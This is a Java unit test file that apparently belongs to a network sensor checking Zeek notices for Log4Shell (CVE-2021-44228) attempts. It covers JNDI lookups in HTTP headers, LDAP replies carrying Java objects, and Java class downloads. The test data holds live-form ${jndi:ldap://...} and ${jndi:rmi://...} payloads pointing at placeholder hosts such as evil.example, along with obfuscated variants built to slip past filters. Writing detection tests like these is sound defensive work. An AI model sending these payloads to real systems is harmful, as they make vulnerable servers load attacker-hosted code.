/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice.zeek;

import static org.assertj.core.api.Assertions.assertThat;

import io.podtap.sensor.notice.NoticeTalk;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The names of Zeek's package, by headers, by LDAP and by downloads. */
class Log4jTest {

  private static final String HEADER = "CVE_2021_44228::LOG4J_ATTEMPT_HEADER";
  private static final String LDAP = "CVE_2021_44228::LOG4J_LDAP_JAVA";
  private static final String DOWNLOAD = "CVE_2021_44228::LOG4J_JAVA_CLASS_DOWNLOAD";

  private static NoticeTalk talk(String... options) {
    String[] all = new String[options.length + 1];
    all[0] = "detect=log4j";
    System.arraycopy(options, 0, all, 1, options.length);
    return new NoticeTalk(all);
  }

  private static String get(String headers) {
    return "GET /a?b HTTP/1.1\r\nHost: shop:8080\r\n" + headers + "\r\n";
  }

  @Test
  void aLookupInAHeaderIsShownWithItsParts() {
    String lookup = "${jndi:ldap://192.0.2.9:1389/a}";
    try (NoticeTalk talk = talk().connect(80).client(get("X-Api: " + lookup + "\r\n"))) {
      assertThat(talk.kinds()).containsExactly(HEADER);
      assertThat(talk.values("notice", "sub"))
          .containsExactly(
              "uri='/a?b', payload_uri=192.0.2.9:1389/a, payload_stem=192.0.2.9:1389,"
                  + " payload_host=192.0.2.9, payload_port=1389, method=GET, is_orig=T, header"
                  + " name='X-API',  header value='"
                  + lookup
                  + "' ");
    }
  }

  @Test
  void everyHeaderCountsOnceAndFromEitherEnd() {
    String lookup = "${jndi:dns://192.0.2.9/a}";
    String headers = "A: " + lookup + "\r\nB: " + lookup + "\r\nA: " + lookup + "\r\n";
    try (NoticeTalk talk = talk().connect(80).client(get(headers))) {
      assertThat(talk.kinds()).containsExactly(HEADER, HEADER);
      talk.server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nServer: " + lookup + "\r\n\r\n");
      assertThat(talk.values("notice", "sub").getLast()).contains("is_orig=F");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      value = {
        "cve_2021_44228.ignorable_target_hosts=evil.example",
        "cve_2021_44228.ignorable_orig_hosts=10.0.0.1",
        "cve_2021_44228.ignorable_resp_hosts=10.0.0.2",
      })
  void hostsMayBeLeftOut(String option) {
    String header = "X: ${jndi:ldap://evil.example/a}\r\n";
    try (NoticeTalk talk = talk(option).connect(80).client(get(header))) {
      assertThat(talk.kinds()).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "X: ${user}",
        "X: ${@print(md5(1:2))}",
        "X: {\"a\":1}",
        "X: ${jndi:ldap://\u00e9.example/a}",
        "X: $(a:b)",
      })
  void othersAreNoLookup(String header) {
    try (NoticeTalk talk = talk().connect(80).client(get(header + "\r\n"))) {
      assertThat(talk.kinds()).isEmpty();
    }
  }

  /** Lookups inside of lookups are taken out; what is left names uri, stem, host and port. */
  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      value = {
        "${jndi:ldap://a.example:1389/x} ${jndi:ldap://a.example:1389/x} a.example 1389",
        "${jndi:dns://a.example} ${jndi:dns://a.example} a.example -",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://a.example/x} ${jndi:ldap://a.example/x} a.example -",
        "${${lower:j}ndi:${lower:l}dap://a.ex${upper:a}mple:9/x} ${jndi:ldap://a.example:9/x}"
            + " a.example 9",
        "${jndi:${lower:l${lower:d${lower:a${lower:p}}}}://a.example/x} ${jndi:ldap://a.example/x}"
            + " a.example -",
        "{${jndi:rmi://a.example/x} {{jndi:rmi://a.example/x} a.example -",
      })
  void partsAreFoundBehindLookups(String given, String plain, String host, String port) {
    if (!given.startsWith("{")) {
      assertThat(LookupParts.isIn(given)).isTrue();
      assertThat(LookupParts.plain(given)).isEqualTo(plain);
    }
    LookupParts parts = LookupParts.of(LookupParts.plain(given));
    assertThat(List.of(parts.host(), parts.port())).containsExactly(host, port);
  }

  @Test
  void textOfAnyKindIsRead() {
    for (String text : List.of("", "}", "{", "$", "${", "{{}}", "//", "${}}}${", "::-", "$${{::")) {
      assertThat(LookupParts.of(LookupParts.plain(text))).isNotNull();
    }
  }

  private static final String BIND = "0\f\2\1\1`\7\2\1\3\4\0\u0080\0";
  private static final String BOUND = "0\f\2\1\1a\7\n\1\0\4\0\4\0";
  private static final String OBJECT = "0 \2\1\2d\33\4\1a0\0260\24\4\rjavaClassName1\3\4\1x";

  @ParameterizedTest
  @CsvSource({"389", "1389"})
  void aJavaObjectFromADirectoryIsANotice(int port) {
    try (NoticeTalk talk = talk().connect(port).client(BIND).server(BOUND)) {
      assertThat(talk.kinds()).isEmpty();
      talk.client("0\5\2\1\2c\0").server(OBJECT).client("0\5\2\1\3c\0").server(OBJECT);
      assertThat(talk.kinds()).containsExactly(LDAP);
      assertThat(talk.values("notice", "sub").getFirst()).contains("javaClassName1");
    }
  }

  @Test
  void theWordAloneIsNoObject() {
    try (NoticeTalk talk = talk().connect(8_080).client("hello").server(OBJECT)) {
      assertThat(talk.kinds()).isEmpty();
    }
  }

  private static String answer(String type, String body) {
    String length = "Content-Length: " + body.length();
    return "HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\n" + length + "\r\n\r\n" + body;
  }

  @Test
  void aClassThatJavaDownloadsIsANotice() {
    String java = "User-Agent: Java/17.0.1\r\n";
    try (NoticeTalk talk = talk()) {
      talk.connect(80).client(get(java)).server(answer("application/java-vm", "x"));
      assertThat(talk.kinds()).containsExactly(DOWNLOAD);
      assertThat(talk.values("notice", "sub"))
          .containsExactly(
              "user_agent='Java/17.0.1', CONTENT-TYPE='application/java-vm', host='shop'");
      String code = "\u00ca\u00fe\u00ba\u00be\0\0\0\64" + "x".repeat(40);
      talk.connect(80).client(get(java)).server(answer("text/plain", code)).finish();
      assertThat(talk.kinds()).containsExactly(DOWNLOAD, DOWNLOAD);
      assertThat(talk.values("notice", "sub").getLast())
          .isEqualTo("user_agent='Java/17.0.1', resp_mime_types='application/x-java-applet'");
      String other = "User-Agent: curl/8.1\r\n";
      talk.connect(80).client(get(other)).server(answer("application/java-vm", code)).finish();
      assertThat(talk.kinds()).hasSize(2);
    }
  }
}
